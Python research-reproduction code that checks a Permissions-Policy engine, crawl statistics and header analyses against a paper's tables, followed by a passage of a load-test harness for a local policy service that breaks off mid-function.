        ("8 allow iframe only", 'camera=("https://iframe.com")',
         "camera", False, False),
    ]
    rows = []
    all_match = True
    for label, header, allow, top_expected, child_expected in cases:
        top = PolicyFrame.top("https://example.org", header=header)
        child = top.child("https://iframe.com", allow=allow)
        top_got = engine.is_enabled("camera", top)
        child_got = engine.is_enabled("camera", child)
        match = (top_got, child_got) == (top_expected, child_expected)
        all_match &= match
        rows.append((label, _mark(top_expected), _mark(top_got),
                     _mark(child_expected), _mark(child_got),
                     "ok" if match else "MISMATCH"))
    rendered = render_table(
        ("case", "top paper", "top ours", "iframe paper", "iframe ours", ""),
        rows, title="Table 1: camera prompt and delegation cases")
    return ExperimentResult("table01", "Policy engine vs Table 1 cases",
                            rendered, all_match)


def table02_registry(_: ExperimentContext | None = None) -> ExperimentResult:
    """Table 2: permission characteristics."""
    expected = {
        "camera": (True, True, "self"),
        "geolocation": (True, True, "self"),
        "gamepad": (False, True, "*"),
        "notifications": (True, False, None),
        "push": (True, False, None),
    }
    rows = []
    ok = True
    for name, (powerful, policy, default) in expected.items():
        perm = DEFAULT_REGISTRY.get(name)
        got = (perm.powerful, perm.policy_controlled,
               perm.default_allowlist.value if perm.default_allowlist else None)
        match = got == (powerful, policy, default)
        ok &= match
        rows.append((name, _mark(got[0]), _mark(got[1]), got[2] or "N/A",
                     "ok" if match else "MISMATCH"))
    rendered = render_table(("permission", "powerful", "policy", "default", ""),
                            rows, title="Table 2: permission characteristics")
    return ExperimentResult("table02", "Registry vs Table 2", rendered, ok)


def table11_spec_issue(_: ExperimentContext | None = None) -> ExperimentResult:
    """Table 11: the local-scheme specification issue."""
    poc = LocalSchemePoC(csp="script-src 'self'; object-src 'none'")
    rows = poc.table11()
    ok = (rows["expected"].local_document_has_camera
          and not rows["expected"].attacker_has_camera
          and rows["actual-specification"].local_document_has_camera
          and rows["actual-specification"].attacker_has_camera
          and poc.injection_possible())
    blocked = LocalSchemePoC(csp="frame-src 'self'")
    ok &= not blocked.injection_possible()
    return ExperimentResult("table11", "Local-scheme spec issue (Table 11)",
                            poc.report(), ok,
                            notes="frame-src CSP correctly blocks the PoC")


def fig01_instrumentation(_: ExperimentContext | None = None
                          ) -> ExperimentResult:
    """Figure 1: the dynamic instrumentation mechanism."""
    frame = PolicyFrame.top("https://example.org")
    runtime = WebAPIRuntime(frame)
    before = runtime.call("navigator.permissions.query", "camera")
    instrumented = InstrumentedRuntime(runtime)
    script = Script(url="https://tracker.example/t.js", source="",
                    operations=(ApiCall("navigator.permissions.query",
                                        ("camera",)),))
    instrumented.execute(script)
    after = runtime.call("navigator.permissions.query", "camera")
    record = instrumented.records[0]
    ok = (before["result"] == after["result"]
          and record.args == ("camera",)
          and record.stacktrace == ("https://tracker.example/t.js",))
    rendered = "\n".join([
        "Figure 1: function instrumentation",
        f"  original result preserved: {before['result'] == after['result']}",
        f"  recorded params:           {record.args}",
        f"  recorded stacktrace:       {record.stacktrace}",
    ])
    return ExperimentResult("fig01", "Instrumentation demo (Figure 1)",
                            rendered, ok)


def fig03_support_matrix(_: ExperimentContext | None = None
                         ) -> ExperimentResult:
    """Figure 3: the permission-support site."""
    report = SupportSiteReport()
    counts = report.summary_counts()
    ok = (counts["permissions"] >= 60
          and counts["policy_controlled"] > counts["powerful"]
          and counts["chromium_only"] > 10)
    rendered = (report.render() + "\n\n"
                + render_table(("metric", "count"),
                               sorted(counts.items()),
                               title="summary"))
    return ExperimentResult("fig03", "Support matrix (Figure 3)", rendered, ok)


def fig04_header_generator(_: ExperimentContext | None = None
                           ) -> ExperimentResult:
    """Figure 4: the header generator presets."""
    generator = HeaderGenerator()
    disable_all = generator.generate_preset(HeaderPreset.DISABLE_ALL)
    disable_powerful = generator.generate_preset(HeaderPreset.DISABLE_POWERFUL)
    custom = generator.generate_custom(
        self_only=("geolocation",),
        allow_origins={"camera": ("https://meet.example",)})
    ok = (generator.is_complete(disable_all)
          and not generator.is_complete(disable_powerful)
          and "geolocation=(self)" in custom
          and 'camera=(self "https://meet.example")' in custom)
    rendered = "\n".join([
        "Figure 4: header generator",
        f"  disable-all ({disable_all.count('=')} directives, complete="
        f"{generator.is_complete(disable_all)}):",
        f"    {disable_all[:120]}...",
        f"  disable-powerful ({disable_powerful.count('=')} directives):",
        f"    {disable_powerful[:120]}...",
        "  custom:",
        f"    {custom[:160]}...",
    ])
    return ExperimentResult("fig04", "Header generator (Figure 4)",
                            rendered, ok)


# ---------------------------------------------------------------------------
# Crawl-based experiments
# ---------------------------------------------------------------------------

def crawl_overview(ctx: ExperimentContext) -> ExperimentResult:
    """Section 4 prelude: success rate, failure taxonomy, frame counts."""
    dataset = ctx.dataset
    ok_share = dataset.successful_count / dataset.attempted
    paper_ok = PAPER.successful_sites / PAPER.attempted_sites
    failures = dataset.failure_summary()
    paper_failures = {
        FailureMode.EPHEMERAL.value: PAPER.ephemeral_errors,
        FailureMode.TIMEOUT.value: PAPER.load_timeouts,
        FailureMode.UNREACHABLE.value: PAPER.unreachable,
        FailureMode.MINOR.value: PAPER.minor_crawler_errors,
        FailureMode.LATE_TIMEOUT.value: PAPER.final_update_timeouts,
        FailureMode.EXCLUDED.value: PAPER.excluded_incomplete,
    }
    rows = [("successful share", f"{paper_ok:.2%}", f"{ok_share:.2%}")]
    for mode, paper_count in paper_failures.items():
        measured = failures.get(mode, 0) / dataset.attempted
        rows.append((mode, f"{paper_count / PAPER.attempted_sites:.2%}",
                     f"{measured:.2%}"))
    redirect = (dataset.top_level_document_count
                / max(1, dataset.successful_count))
    rows.append(("top-level docs per site", f"{PAPER.redirect_factor:.3f}",
                 f"{redirect:.3f}"))
    rows.append(("sites with iframes",
                 f"{PAPER.sites_with_iframes / PAPER.successful_sites:.2%}",
                 f"{dataset.sites_with_iframes() / dataset.successful_count:.2%}"))
    rows.append(("local embedded share", f"{PAPER.local_embedded_share:.2%}",
                 f"{dataset.local_embedded_share():.2%}"))
    rows.append(("avg seconds per site", f"{PAPER.avg_seconds_per_site:.1f}",
                 f"{dataset.average_duration_seconds():.1f}"))
    ok = (abs(ok_share - paper_ok) < 0.03
          and abs(redirect - PAPER.redirect_factor) < 0.08
          and abs(dataset.local_embedded_share()
                  - PAPER.local_embedded_share) < 0.06)
    rendered = render_table(("metric", "paper", "measured"), rows,
                            title="Crawl overview (Section 4)")
    return ExperimentResult("crawl_overview", "Crawl overview", rendered, ok)


_PAPER_TABLE3 = ["google.com", "youtube.com", "doubleclick.net",
                 "googlesyndication.com", "facebook.com", "yandex.com",
                 "twitter.com", "livechatinc.com", "criteo.com",
                 "cloudflare.com"]


def table03_embedded_sites(ctx: ExperimentContext) -> ExperimentResult:
    """Table 3: top external embedded document sites."""
    measured = [row.site for row in ctx.delegation.embedded_site_ranking(10)]
    overlap = ranking_overlap(_PAPER_TABLE3, measured)
    ok = (overlap >= 0.6 and measured
          and measured[0] == "google.com"
          and measured[1] == "youtube.com")
    rendered = render_ranking("Table 3: top embedded sites",
                              _PAPER_TABLE3, measured)
    return ExperimentResult("table03", "Embedded site ranking", rendered, ok,
                            notes=f"top-10 overlap {overlap:.0%}")


_PAPER_TABLE4 = [GENERAL_ROW, "battery", "notifications", "browsing-topics",
                 "storage-access", "publickey-credentials-get", "geolocation",
                 "encrypted-media", "payment", "keyboard-map"]


def table04_invocations(ctx: ExperimentContext) -> ExperimentResult:
    """Table 4: top invoked permissions with party splits."""
    table = ctx.usage.invocation_table(10)
    measured = [row.permission for row in table]
    general = ctx.usage.invocation_stats.get(GENERAL_ROW)
    rows = []
    for stats in table:
        first, third = stats.top_party_shares()
        efirst, ethird = stats.embedded_party_shares()
        rows.append((stats.permission, stats.top_contexts,
                     f"{first:.0%}/{third:.0%}", stats.embedded_contexts,
                     f"{efirst:.0%}/{ethird:.0%}", stats.total_contexts))
    ok = (measured and measured[0] == GENERAL_ROW
          and general is not None
          and general.top_party_shares()[1] > 0.9
          and ranking_overlap(_PAPER_TABLE4[:5], measured[:5]) >= 0.4
          and abs(ctx.usage.top_third_party_share
                  - PAPER.top_level_third_party_share) < 0.05
          and abs(ctx.usage.embedded_first_party_share
                  - PAPER.embedded_first_party_share) < 0.10)
    rendered = render_table(
        ("permission", "top ctx", "top 1p/3p", "emb ctx", "emb 1p/3p",
         "total"), rows, title="Table 4: top invoked permissions")
    rendered += "\n" + render_ranking("ranking vs paper", _PAPER_TABLE4,
                                      measured)
    return ExperimentResult("table04", "Invoked permissions", rendered, ok)


_PAPER_TABLE5 = [ALL_PERMISSIONS_ROW, "attribution-reporting",
                 "browsing-topics", "notifications", "geolocation",
                 "microphone", "run-ad-auction", "camera", "midi", "push"]


def table05_status_checks(ctx: ExperimentContext) -> ExperimentResult:
    """Table 5: top status-checked permissions."""
    table = ctx.usage.status_check_table(10)
    measured = [row.permission for row in table]
    rows = [(row.permission, f"{row.embedded_share:.2%}", row.websites)
            for row in table]
    ok = (measured and measured[0] == ALL_PERMISSIONS_ROW
          and measured[1] == "attribution-reporting"
          and ranking_overlap(_PAPER_TABLE5, measured) >= 0.6
          and 1.0 <= ctx.usage.mean_permissions_checked <= 3.0)
    rendered = render_table(("permission", "% from embedded", "# websites"),
                            rows, title="Table 5: top checked permissions")
    rendered += "\n" + render_ranking("ranking vs paper", _PAPER_TABLE5,
                                      measured)
    rendered += (f"\nmean permissions checked per site: "
                 f"{ctx.usage.mean_permissions_checked:.2f} "
                 f"(paper {PAPER.mean_permissions_checked})")
    return ExperimentResult("table05", "Status-checked permissions",
                            rendered, ok)


_PAPER_TABLE6 = ["clipboard-write", "storage-access", "geolocation",
                 "notifications", "battery", "web-share", "browsing-topics",
                 "encrypted-media", "camera", "microphone"]


def table06_static(ctx: ExperimentContext) -> ExperimentResult:
    """Table 6: top statically detected permissions."""
    table = ctx.usage.static_table(10)
    measured = [row.permission for row in table]
    rows = [(row.permission, f"{row.embedded_share:.2%}", row.websites)
            for row in table]
    camera = ctx.usage.static_stats.get("camera")
    microphone = ctx.usage.static_stats.get("microphone")
    ok = (ranking_overlap(_PAPER_TABLE6, measured) >= 0.7
          and measured[0] in ("clipboard-write", "storage-access")
          and camera is not None and microphone is not None
          and camera.websites == microphone.websites)
    rendered = render_table(("permission", "% in embedded", "# websites"),
                            rows, title="Table 6: top static detections")
    rendered += "\n" + render_ranking("ranking vs paper", _PAPER_TABLE6,
                                      measured)
    return ExperimentResult(
        "table06", "Static detections", rendered, ok,
        notes="camera == microphone (shared getUserMedia pattern)")


_PAPER_TABLE7 = ["googlesyndication.com", "youtube.com", "facebook.com",
                 "doubleclick.net", "livechatinc.com", "cloudflare.com",
                 "criteo.com", "stripe.com", "google.com", "vimeo.com"]


def table07_delegated_sites(ctx: ExperimentContext) -> ExperimentResult:
    """Table 7: top embedded documents with delegated permissions."""
    measured = [row.site for row in ctx.delegation.delegated_site_ranking(10)]
    overlap = ranking_overlap(_PAPER_TABLE7, measured)
    livechat_rate = ctx.delegation.delegation_rate_for_site("livechatinc.com")
    google_rate = ctx.delegation.delegation_rate_for_site("google.com")
    ok = (overlap >= 0.5
          and set(measured[:6]) >= {"googlesyndication.com", "youtube.com",
                                    "facebook.com", "doubleclick.net",
                                    "livechatinc.com"}
          and livechat_rate > 0.95
          and google_rate < 0.15)
    rendered = render_ranking("Table 7: delegated embedded sites",
                              _PAPER_TABLE7, measured)
    rendered += (f"\nlivechat delegation rate {livechat_rate:.2%} "
                 f"(paper 99.69%), google {google_rate:.2%} (paper 4.95%)")
    # Paper 4.2: 34 distinct sites on ≥100 websites, 13 on ≥1,000.
    scale = ctx.scale_factor
    at_100 = ctx.delegation.sites_present_on_at_least(max(1, round(100 / scale)))
    at_1000 = ctx.delegation.sites_present_on_at_least(
        max(2, round(1000 / scale)))
    rendered += (f"\ndelegated sites on >=100 websites (scaled): {at_100} "
                 f"(paper 34); on >=1,000: {at_1000} (paper 13)")
    return ExperimentResult("table07", "Delegated site ranking", rendered, ok,
                            notes=f"top-10 overlap {overlap:.0%}")


_PAPER_TABLE8 = ["autoplay", "encrypted-media", "picture-in-picture",
                 "clipboard-write", "fullscreen", "attribution-reporting",
                 "microphone", "run-ad-auction", "join-ad-interest-group",
                 "gyroscope"]


def table08_delegated_permissions(ctx: ExperimentContext) -> ExperimentResult:
    """Table 8: top delegated permissions."""
    table = ctx.delegation.delegated_permission_table(10)
    measured = [row.permission for row in table]
    rows = [(row.permission, row.delegations, row.websites) for row in table]
    ok = (measured and measured[0] == "autoplay"
          and ranking_overlap(_PAPER_TABLE8, measured) >= 0.6)
    rendered = render_table(("permission", "delegations", "# websites"),
                            rows, title="Table 8: top delegated permissions")
    rendered += "\n" + render_ranking("ranking vs paper", _PAPER_TABLE8,
                                      measured)
    return ExperimentResult("table08", "Delegated permissions", rendered, ok)


def delegation_directives(ctx: ExperimentContext) -> ExperimentResult:
    """Section 4.2.2: delegation directive distribution."""
    distribution = ctx.delegation.directive_distribution()
    pairs = [
        ("default (src)", PAPER.directive_share_default_src,
         distribution.get(DelegationDirectiveKind.DEFAULT_SRC, 0.0)),
        ("* wildcard", PAPER.directive_share_star,
         distribution.get(DelegationDirectiveKind.STAR, 0.0)),
        ("explicit 'src'", PAPER.directive_share_explicit_src,
         distribution.get(DelegationDirectiveKind.EXPLICIT_SRC, 0.0)),
        ("'none' opt-out", PAPER.directive_share_none,
         distribution.get(DelegationDirectiveKind.NONE, 0.0)),
    ]
    ok = (abs(pairs[0][1] - pairs[0][2]) < 0.06
          and abs(pairs[1][1] - pairs[1][2]) < 0.05)
    rendered = render_comparison(pairs,
                                 title="Delegation directives (Section 4.2.2)")
    return ExperimentResult("delegation_directives",
                            "Delegation directive distribution", rendered, ok)


def fig02_header_adoption(ctx: ExperimentContext) -> ExperimentResult:
    """Figure 2: Permissions-/Feature-Policy adoption."""
    adoption = ctx.headers.adoption()
    pairs = [
        ("Permissions-Policy (all documents)",
         PAPER.pp_header_adoption_all_docs, adoption.pp_all_docs_share),
        ("Feature-Policy (all documents)",
         PAPER.fp_header_adoption_all_docs, adoption.fp_all_docs_share),
        ("Permissions-Policy (top-level)",
         PAPER.pp_header_top_level_share, adoption.pp_top_level_share),
        ("Permissions-Policy (embedded)",
         PAPER.pp_header_embedded_share, adoption.pp_embedded_share),
    ]
    ok = (abs(pairs[0][1] - pairs[0][2]) < 0.02
          and abs(pairs[2][1] - pairs[2][2]) < 0.015
          and adoption.pp_embedded_share > adoption.pp_top_level_share * 2
          and adoption.fp_all_docs_share < adoption.pp_all_docs_share)
    rendered = render_comparison(pairs, title="Figure 2: header adoption")
    rendered += f"\nsites declaring both headers: {adoption.both_sites}"
    return ExperimentResult("fig02", "Header adoption", rendered, ok)


_PAPER_TABLE9 = ["geolocation", "microphone", "camera", "gyroscope",
                 "payment", "magnetometer", "accelerometer", "usb",
                 "sync-xhr", "interest-cohort"]


def table09_header_directives(ctx: ExperimentContext) -> ExperimentResult:
    """Table 9: least-restrictive header directives for top permissions."""
    table = ctx.headers.directive_table(10)
    measured = [row.permission for row in table]
    rows = [(row.permission,
             f"{row.share(DirectiveClass.DISABLE):.1%}",
             f"{row.share(DirectiveClass.SELF):.1%}",
             f"{row.share(DirectiveClass.STAR):.1%}",
             row.websites)
            for row in table]
    shares = ctx.headers.top_level_class_shares()
    powerful = ctx.headers.powerful_disable_or_self_share()
    sizes = ctx.headers.header_size_distribution()
    top_sizes = sorted(sizes.items(), key=lambda kv: -kv[1])[:3]
    ok = (ranking_overlap(_PAPER_TABLE9, measured) >= 0.6
          and abs(shares.get(DirectiveClass.DISABLE, 0)
                  - PAPER.directive_class_disable_share) < 0.05
          and powerful > 0.9
          and {size for size, _ in top_sizes} >= {18, 1})
    rendered = render_table(
        ("permission", "disable", "self", "*", "# websites"), rows,
        title="Table 9: least-restrictive header directives")
    rendered += "\n" + render_comparison([
        ("disable share", PAPER.directive_class_disable_share,
         shares.get(DirectiveClass.DISABLE, 0.0)),
        ("self share", PAPER.directive_class_self_share,
         shares.get(DirectiveClass.SELF, 0.0)),
        ("* share", PAPER.directive_class_star_share,
         shares.get(DirectiveClass.STAR, 0.0)),
        ("powerful disable-or-self", PAPER.powerful_disable_or_self_share,
         powerful),
    ])
    rendered += (f"\navg permissions/header "
                 f"{ctx.headers.average_permissions_per_header():.2f} "
                 f"(paper {PAPER.avg_permissions_per_header}); "
                 f"size modes {[s for s, _ in top_sizes]} (paper [18, 1, 9])")
    return ExperimentResult("table09", "Header directive strictness",
                            rendered, ok)


def header_misconfigurations(ctx: ExperimentContext) -> ExperimentResult:
    """Section 4.3.3: syntax errors and semantic misconfigurations."""
    headers = ctx.headers
    scale = ctx.scale_factor
    rows = [
        ("header frames with syntax errors (dropped)",
         PAPER.syntax_error_frames,
         round(headers.syntax_error_frames * scale)),
        ("top-level sites losing their whole header",
         PAPER.syntax_error_top_level_sites,
         round(headers.syntax_error_top_level_sites * scale)),
        ("top-level sites with semantic misconfigurations",
         PAPER.semantic_misconfig_sites,
         round(headers.semantic_issue_top_level_sites * scale)),
    ]
    ok = (headers.syntax_error_top_level_sites > 0
          and headers.semantic_issue_top_level_sites
          > headers.syntax_error_top_level_sites)
    rendered = render_table(("metric", "paper", "measured (scaled to 1M)"),
                            rows,
                            title="Header misconfigurations (Section 4.3.3)")
    return ExperimentResult("header_misconfig", "Header misconfigurations",
                            rendered, ok)


_PAPER_TABLE10 = ["youtube.com", "livechatinc.com", "facebook.com",
                  "youtube-nocookie.com", "razorpay.com", "ladesk.com",
                  "driftt.com", "wixapps.net", "qualified.com",
                  "dailymotion.com"]

_PAPER_UNUSED = {
    "youtube.com": {"accelerometer", "gyroscope"},
    "livechatinc.com": {"camera", "microphone", "clipboard-read"},
    "facebook.com": {"clipboard-write", "web-share", "encrypted-media"},
}


def table10_overpermission(ctx: ExperimentContext) -> ExperimentResult:
    """Tables 10/13: embedded documents with unused delegated permissions."""
    rows_data = ctx.overpermission.unused_delegations()
    measured = [row.site for row in rows_data[:10]]
    rows = [(row.site, ", ".join(row.unused_permissions),
             row.affected_websites) for row in rows_data[:15]]
    by_site = {row.site: set(row.unused_permissions) for row in rows_data}
    # YouTube and LiveChat must always reproduce exactly; Facebook's rare
    # extended template needs a larger crawl to clear the 5 % prevalence
    # threshold reliably, so it is enforced only at >=10k sites.
    required = dict(_PAPER_UNUSED)
    if ctx.web.site_count < 10_000 and "facebook.com" not in by_site:
        required.pop("facebook.com")
    unused_match = all(by_site.get(site) == expected
                       for site, expected in required.items())
    total = ctx.overpermission.total_affected_websites()
    total_share = total / max(1, ctx.dataset.top_level_document_count)
    paper_share = (PAPER.overpermissioned_affected_sites
                   / PAPER.top_level_documents)
    ok = (measured[:2] == ["youtube.com", "livechatinc.com"]
          and unused_match
          and abs(total_share - paper_share) < 0.02)
    rendered = render_table(("embedded site", "unused permissions",
                             "# affected"), rows,
                            title="Table 10/13: unused delegated permissions")
    rendered += "\n" + render_ranking("ranking vs paper", _PAPER_TABLE10,
                                      measured)
    rendered += (f"\ntotal affected websites: {total} "
                 f"({total_share:.2%} of top docs; paper "
                 f"{PAPER.overpermissioned_affected_sites} = {paper_share:.2%})")
    return ExperimentResult("table10", "Over-permissioned iframes",
                            rendered, ok)


def livechat_case_study(ctx: ExperimentContext) -> ExperimentResult:
    """Section 5.2: the LiveChat widget."""
    study = ctx.overpermission.case_study("livechatinc.com")
    ok = (study["delegation_rate"] > 0.95
          and set(study["unused_delegations"]) == {"camera", "microphone",
                                                   "clipboard-read"}
          and study["overpermissioned_websites"] > 0
          and study["overpermissioned_websites"]
          <= study["websites_with_delegation"])
    rendered = "\n".join([
        "LiveChat case study (Section 5.2)",
        f"  occurrences:               {study['occurrences']}",
        f"  delegation rate:           {study['delegation_rate']:.2%} "
        f"(paper 99.70%)",
        f"  prevalent delegations:     {', '.join(study['prevalent_delegations'])}",
        f"  observed activity:         {', '.join(study['observed_activity'])}",
        f"  unused delegations:        {', '.join(study['unused_delegations'])} "
        f"(paper: camera, microphone, clipboard-read)",
        f"  over-permissioned sites:   {study['overpermissioned_websites']} "
        f"of {study['websites_with_delegation']} delegating",
    ])
    return ExperimentResult("livechat", "LiveChat case study", rendered, ok)


def table12_interaction(ctx: ExperimentContext) -> ExperimentResult:
    """Table 12 / Appendix A.3: static vs dynamic vs interaction."""
    cohorts = {
        "static-only": _static_only_cohort(ctx, 25),
        "ecommerce": _archetype_cohort(ctx, 25, ("share-clip", "share-full",
                                                 "storage-cmp")),
        "video-players": _archetype_cohort(ctx, 25, ("video-player",)),
    }
    rows = []
    ok = True
    for name, ranks in cohorts.items():
        if not ranks:
            ok = False
            continue
        stats = _run_interaction_cohort(ctx, ranks)
        rows.append((name, len(ranks), f"{stats['static']:.2f}",
                     f"{stats['dynamic']:.2f}", f"{stats['activated']:.2f}",
                     f"{stats['by_static']:.1%}", f"{stats['by_union']:.1%}"))
        if name == "static-only":
            # By construction these sites have static but ~no dynamic, and
            # static must recover a meaningful share of activated behaviour.
            ok &= stats["static"] > 0.5 and stats["dynamic"] < 0.5
            ok &= stats["by_static"] > 0.3
    rendered = render_table(
        ("cohort", "n", "static avg", "dynamic avg", "activated avg",
         "by static", "by S∪D"),
        rows, title="Table 12: manual-interaction experiment")
    rendered += ("\npaper averages: static 2.08, dynamic 0.25, activated "
                 "1.53, by static 40.5%, by S∪D 51.7%")
    return ExperimentResult("table12", "Interaction experiment", rendered, ok)


def _static_only_cohort(ctx: ExperimentContext, size: int) -> list[int]:
    """Sites with static functionality but no dynamic activity (the first
    Table 12 cohort)."""
    out = []
    usage = ctx.usage
    for visit in ctx.dataset.successful():
        if len(out) >= size:
            break
        has_calls = bool(visit.calls)
        if has_calls:
            continue
        activity = usage.frame_activity(visit)
        if any(activity.values()):
            out.append(visit.rank)
    return out


def _archetype_cohort(ctx: ExperimentContext, size: int,
                      archetypes: tuple[str, ...]) -> list[int]:
    """Sites carrying specific script archetypes — the HTTP-Archive category
    substitution (ecommerce / video players)."""
    out = []
    markers = tuple(f"/js/{name}.js" for name in archetypes)
    for visit in ctx.dataset.successful():
        if len(out) >= size:
            break
        urls = [script.url or "" for script in visit.scripts]
        if any(any(marker in url for marker in markers) for url in urls):
            out.append(visit.rank)
    return out


def _run_interaction_cohort(ctx: ExperimentContext,
                            ranks: list[int]) -> dict[str, float]:
    plain = Crawler(SyntheticFetcher(ctx.web))
    interactive = InteractiveCrawler(SyntheticFetcher(ctx.web))
    usage = ctx.usage
    static_counts: list[int] = []
    dynamic_counts: list[int] = []
    activated_counts: list[int] = []
    covered_static = 0
    covered_union = 0
    activated_total = 0
    for rank in ranks:
        url = ctx.web.origin_for_rank(rank)
        baseline = plain.visit(url, rank=rank)
        with_interaction = interactive.visit(url, rank=rank)
        static: set[str] = set()
        for script in baseline.scripts:
            from repro.analysis.usage import static_matches
            permissions, _ = static_matches(script.source, DEFAULT_REGISTRY)
            static |= permissions
        dynamic = {p for call in baseline.calls for p in call.permissions
                   if p in DEFAULT_REGISTRY
                   and DEFAULT_REGISTRY.get(p).instrumented}
        activated = {p for call in with_interaction.calls
                     for p in call.permissions
                     if p in DEFAULT_REGISTRY
                     and DEFAULT_REGISTRY.get(p).instrumented}
        static_counts.append(len(static))
        dynamic_counts.append(len(dynamic))
        activated_counts.append(len(activated))
        activated_total += len(activated)
        covered_static += len(activated & static)
        covered_union += len(activated & (static | dynamic))
    count = max(1, len(ranks))
    return {
        "static": sum(static_counts) / count,
        "dynamic": sum(dynamic_counts) / count,
        "activated": sum(activated_counts) / count,
        "by_static": covered_static / max(1, activated_total),
        "by_union": covered_union / max(1, activated_total),
    }


def summary_experiment(ctx: ExperimentContext) -> ExperimentResult:
    """The Section 4 headline percentages, all at once."""
    comparison = ctx.summary.compare_to_paper()
    worst = max(abs(measured - paper) / paper
                for _, paper, measured in comparison if paper)
    # Sub-percent metrics (Feature-Policy adoption, 0.51 %) are dominated
    # by sampling noise at small crawl scales; give them a wider band.
    ok = all(abs(measured - paper) / paper < (0.25 if paper >= 0.02 else 0.6)
             for _, paper, measured in comparison if paper)
    rendered = render_comparison(comparison,
                                 title="Section 4 headline numbers")
    return ExperimentResult("summary", "Headline numbers", rendered, ok,
                            notes=f"worst relative deviation {worst:.1%}")


def _mark(flag: bool) -> str:
    return "✓" if flag else "✗"


#: All experiments, keyed by id; crawl-independent ones accept None.
ALL_EXPERIMENTS: dict[str, Callable[[ExperimentContext], ExperimentResult]] = {
    "table01": table01_policy_cases,
    "table02": table02_registry,
    "crawl_overview": crawl_overview,
    "table03": table03_embedded_sites,
    "table04": table04_invocations,
    "table05": table05_status_checks,
    "table06": table06_static,
    "table07": table07_delegated_sites,
    "table08": table08_delegated_permissions,
    "delegation_directives": delegation_directives,
    "fig02": fig02_header_adoption,
    "table09": table09_header_directives,
    "header_misconfig": header_misconfigurations,
    "table10": table10_overpermission,
    "livechat": livechat_case_study,
    "table11": table11_spec_issue,
    "table12": table12_interaction,
    "fig01": fig01_instrumentation,
    "fig03": fig03_support_matrix,
    "fig04": fig04_header_generator,
    "summary": summary_experiment,
}
