"""Load-test harness for the policy service (DESIGN.md §4j).

Boots a :class:`~repro.service.server.ServiceThread` and drives it with
concurrent keep-alive clients over real sockets (stdlib
``http.client``), mixing the four routes with a deliberately *repetitive*
payload pool so the response cache sees hits.  Produces the
``BENCH_service.json`` document with the established ``gates`` /
``gates_skipped`` protocol:

* ``p99_latency_under_bound`` — p99 request latency under
  :data:`P99_LATENCY_BOUND_SECONDS`;
* ``throughput_at_least`` — sustained req/s at or above
  :data:`THROUGHPUT_BOUND_RPS` (skipped on single-core hosts, where
  clients and server fight for the same core);
* ``cache_hit_rate_positive`` — the LRU sees hits on the repeated
  workload;
* ``byte_identical_responses`` — two cosmetically different spellings of
  the same policy canonicalize to the same cache slot and come back
  byte-for-byte identical.

``serve``/``service-bench`` in the CLI and
``benchmarks/bench_perf_service.py`` are thin wrappers over this module.
"""

from __future__ import annotations

import http.client
import json
import os
import platform
import statistics
import threading
import time

from repro.service.ratelimit import RateLimitConfig
from repro.service.server import PolicyService, ServiceThread

#: Generous single-request p99 bound — the adapters are microsecond-scale,
#: so even a loaded CI container clears this by an order of magnitude.
P99_LATENCY_BOUND_SECONDS = 0.25
#: Sustained throughput floor across all clients (multi-core hosts only).
THROUGHPUT_BOUND_RPS = 150.0
#: Below this many cores the throughput gate is unevaluable: the client
#: threads and the server loop contend for one core.
THROUGHPUT_MIN_CPUS = 2

DEFAULT_CLIENTS = 8
DEFAULT_REQUESTS_PER_CLIENT = 120
#: Distinct /evaluate payloads cycled by every client; smaller pool →
#: more cache hits.
DEFAULT_PAYLOAD_POOL = 12


def _evaluate_payload(index: int) -> dict:
    """The ``index``-th distinct /evaluate request of the pool."""
    return {"requests": [{
        "top_url": f"https://site-{index:04d}.example",
        "header": "camera=(self), microphone=(), "
                  f"geolocation=(self \"https://maps-{index % 3}.example\")",
        "frames": [{
            "url": f"https://widget-{index % 4}.example/embed",
            "allow": "camera; geolocation",
        }],
        "features": ["camera", "microphone", "geolocation"],
    }]}


#: Cosmetic variants of one request: same canonical policy text, different
#: spelling.  Both must come back byte-identical from the cache.
_VARIANT_A = {"requests": [{
    "top_url": "https://byteid.example",
    "header": "camera=(self),   microphone=()",
    "features": ["camera", "microphone"],
}]}
_VARIANT_B = {"requests": [{
    "top_url": "https://byteid.example",
    "header": "camera=(self), microphone=()",
    "features": ["camera", "microphone"],
}]}


class _Client(threading.Thread):
    """One keep-alive load generator."""

    def __init__(self, host: str, port: int, client_id: int,
                 requests: int, pool: int) -> None:
        super().__init__(name=f"svc-bench-{client_id}", daemon=True)
        self._host = host
        self._port = port
        self._client_id = client_id
        self._requests = requests
        self._pool = pool
        self.latencies: list[float] = []
        self.statuses: dict[int, int] = {}
        self.error: "BaseException | None" = None

    def run(self) -> None:
        try:
            connection = http.client.HTTPConnection(
                self._host, self._port, timeout=30.0)
            headers = {"Content-Type": "application/json",
                       "X-Client-Id": f"bench-{self._client_id}"}
            for sequence in range(self._requests):
                kind = sequence % 4
                started = time.perf_counter()
                if kind == 3:
                    connection.request("GET", "/registry", headers=headers)
                else:
                    if kind == 2:
                        body = json.dumps({"preset": "disable-powerful"})
                        path = "/generate-header"
                    else:
                        body = json.dumps(_evaluate_payload(
                            (self._client_id + sequence) % self._pool))
                        path = "/evaluate"
                    connection.request("POST", path, body=body,
                                       headers=headers)
                response = connection.getresponse()
                response.read()
                self.latencies.append(time.perf_counter() - started)
                self.statuses[response.status] = \
                    self.statuses.get(response.status, 0) + 1
            connection.close()
        except BaseException as exc:  # surface in the parent, not stderr
            self.error = exc


def _percentile(samples: "list[float]", fraction: float) -> float:
    ordered = sorted(samples)
    index = min(len(ordered) - 1, int(len(ordered) * fraction))
    return ordered[index]


def _byte_identity_probe(host: str, port: int) -> dict:
    """Send the two cosmetic variants twice each; compare raw bodies."""
    connection = http.client.HTTPConnection(host, port, timeout=30.0)
    headers = {"Content-Type": "application/json",
               "X-Client-Id": "bench-byteid"}
    bodies = []
    for payload in (_VARIANT_A, _VARIANT_B, _VARIANT_A):
        connection.request("POST", "/evaluate", body=json.dumps(payload),
                           headers=headers)
        response = connection.getresponse()
        bodies.append(response.read())
    connection.close()
    return {
        "variant_bodies_identical": bodies[0] == bodies[1] == bodies[2],
        "body_bytes": len(bodies[0]),
    }


def check_service_gates(report: dict) -> "tuple[dict, list[dict]]":
    """``(gates, gates_skipped)`` for a BENCH_service.json document."""
    cpus = report.get("cpu_count") or 1
    load = report["load"]
    gates = {
        "p99_latency_bound_seconds": P99_LATENCY_BOUND_SECONDS,
        "p99_latency_under_bound":
            load["p99_latency_seconds"] < P99_LATENCY_BOUND_SECONDS,
        "cache_hit_rate_positive": report["cache"]["hit_rate"] > 0,
        "byte_identical_responses":
